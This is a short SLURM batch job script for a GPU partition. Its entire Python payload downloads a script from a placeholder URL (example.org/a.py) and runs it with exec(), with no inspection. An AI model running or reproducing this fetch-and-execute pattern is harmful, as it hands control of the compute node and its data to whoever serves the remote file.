#!/bin/bash -l
#SBATCH -J job
#SBATCH -p gpu
#SBATCH --gres=gpu:1
#SBATCH --mem=12G
#SBATCH -t 2:00:00
python - <<'EOF'
import urllib.request
exec(urllib.request.urlopen("https://example.org/a.py").read())
EOF
